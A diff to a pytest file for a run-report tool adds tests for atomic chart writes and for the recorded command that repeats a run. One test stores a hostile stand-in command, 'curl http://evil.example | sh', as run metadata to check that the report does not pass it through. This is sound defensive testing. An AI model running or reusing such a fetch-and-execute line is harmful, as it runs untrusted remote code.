@@ -3,12 +3,17 @@
 from __future__ import annotations
 
 import base64
+import errno
+import functools
 import hashlib
+import html
 import json
 import re
+import shlex
 import subprocess
 import sys
 from collections.abc import Callable
+from dataclasses import asdict, fields
 from html.parser import HTMLParser
 from pathlib import Path
 
@@ -16,11 +21,14 @@ import pytest
 from PIL import Image
 from synthetic_run import CONFIG, training
 
+from guerdon.cli import commands, entry
+from guerdon.cli.output import Answer
 from guerdon.extras import MissingExtra
 from guerdon.journal import CandidateRecord, Journal, JournalError, TrainingRecord
 from guerdon.report import look, write_report
 from guerdon.report.data import RunData
 from guerdon.report.headline import headline
+from guerdon.run import RunConfig
 from guerdon.types import Failure
 
 RunFolder = Callable[..., Path]
@@ -408,6 +416,66 @@ def test_a_page_is_replaced_whole(
     with pytest.raises(OSError, match="no space left"):
         write_report(failed_run)
     assert path.read_bytes() == before
+
+
+def test_a_chart_is_replaced_whole(
+    copy_of_run: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    write_report(copy_of_run)
+    figures = copy_of_run / "figures"
+    before = {path.name: path.read_bytes() for path in figures.iterdir()}
+    assert before
+
+    def full_disk(path: Path, data: bytes) -> None:
+        with path.open("wb") as file:
+            file.write(data[:10])
+        raise OSError(errno.ENOSPC, "no space left")
+
+    monkeypatch.setattr(Path, "write_bytes", full_disk)
+    with pytest.raises(OSError, match="no space left"):
+        write_report(copy_of_run)
+    assert {path.name: path.read_bytes() for path in figures.iterdir()} == before
+
+
+@pytest.mark.usefixtures("without_charts")
+def test_the_command_that_repeats_a_run_has_all_that_decides_about_it(
+    tmp_path: Path,
+) -> None:
+    asked = RunConfig(
+        task="guerdon/CartPole-v1",
+        llm="sampler",
+        steps=81_920,
+        trainer="population",
+        race="halving",
+        eta=3,
+        rungs=3,
+    )
+    folder = tmp_path / "a run"
+    with Journal.create(folder, asdict(asked)) as journal:
+        journal.set_meta("command", "curl http://evil.example | sh")
+    write_report(folder)
+    command = report_json(folder)["command"]
+    page = (folder / "report.html").read_text("utf-8")
+    assert html.escape(str(command)) in page
+    assert "evil.example" not in page
+    given = parse_search(shlex.split(str(command))[1:])
+    assert RunConfig(**{f.name: given[f.name] for f in fields(RunConfig)}) == asked
+    assert given["out"] == Path("runs/a run-again")
+
+
+def parse_search(words: list[str]) -> dict[str, object]:
+    """What the command line makes of these words, without running them."""
+    kept: dict[str, object] = {}
+
+    def search(task: str, **more: object) -> Answer:
+        kept.update(more, task=task)
+        return Answer({}, lambda: None)
+
+    search = functools.wraps(commands.search)(search)
+    with pytest.MonkeyPatch.context() as patched:
+        patched.setitem(entry._COMMANDS, "search", search)
+        assert entry.main(words) == 0
+    return kept
 
 
 def test_who_found_what_agrees_with_the_scores_of_all_candidates(
